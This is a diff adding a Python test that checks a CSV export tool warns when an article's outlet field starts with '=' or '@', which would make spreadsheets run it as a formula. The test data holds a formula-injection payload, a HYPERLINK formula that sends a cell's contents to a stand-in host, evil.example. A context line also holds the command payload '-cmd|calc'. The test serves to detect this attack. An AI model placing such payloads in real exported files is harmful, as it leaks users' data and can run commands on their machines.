@@ -246,6 +246,39 @@ def test_check_warns_about_text_a_spreadsheet_would_run_and_the_tables_keep_it_v
     assert table("events", "event_id").description["rules_tightened"] == "-cmd|calc"
 
 
+def test_check_tables_and_report_warn_about_an_outlet_a_spreadsheet_would_run(tmp_path):
+    # review 11c, F6: the article's outlet starts events.csv's publication row ("<outlet> publishes the article")
+    outlet = '=HYPERLINK("http://evil.example/?"&A1)'
+    article, annotation = variant(tmp_path, [(" , The Example Gazette , ", f" , {outlet} , ")])
+    assert load_article(article).outlet == outlet
+    said = ("warning: a.yaml: article.outlet: the article's outlet (front matter / --outlet; here the capture's date "
+            f"line) '{outlet}' starts with '=', so a spreadsheet that opens events.csv may run its publication row's "
+            "description as a formula")
+    res = run("check", annotation)
+    assert res.returncode == 0, res.stderr
+    assert [ln.replace(f"{tmp_path}/", "") for ln in res.stderr.splitlines() if "article.outlet" in ln] == [said]
+    assert "fix: write the outlet's name without the sign" in res.stderr
+    tables = run("tables", "--article", article, "--annotation", annotation, "--out", tmp_path / "t")
+    assert tables.returncode == 0, tables.stderr
+    assert [ln.replace(f"{tmp_path}/", "") for ln in tables.stderr.splitlines() if "article.outlet" in ln] == [said]
+    import pandas as pd
+
+    events = pd.read_csv(tmp_path / "t" / "events.csv", dtype=str, keep_default_na=False).set_index("event_id")
+    assert events.description["publication"] == f"{outlet} publishes the article"  # the record, verbatim
+    from exportrow.report import formula_warnings
+
+    shown = formula_warnings({"article_path": str(article), "annotation_path": str(annotation)})
+    assert ["warning: " + w.splitlines()[0].replace(f"{tmp_path}/", "") for w in shown] == [said]
+    # --outlet on the command line: the same warning, naming where the outlet came from
+    (tmp_path / "p").mkdir()
+    plain, plain_yaml = variant(tmp_path / "p")
+    opt = run("tables", "--article", plain, "--annotation", plain_yaml, "--outlet", "@Gazette", "--out", tmp_path / "u")
+    assert opt.returncode == 0, opt.stderr
+    assert ("article.outlet: the article's outlet (front matter / --outlet; here set by the user, overriding the "
+            "capture) '@Gazette' starts with '@'") in opt.stderr
+    assert "article.outlet" not in run("check", plain_yaml).stderr
+
+
 def test_the_worksheet_csv_keeps_its_guard(tmp_path):
     article, annotation = variant(tmp_path, [("Freedonia argues that", "=Freedonia argues that")])
     assert run("check", annotation).returncode == 0
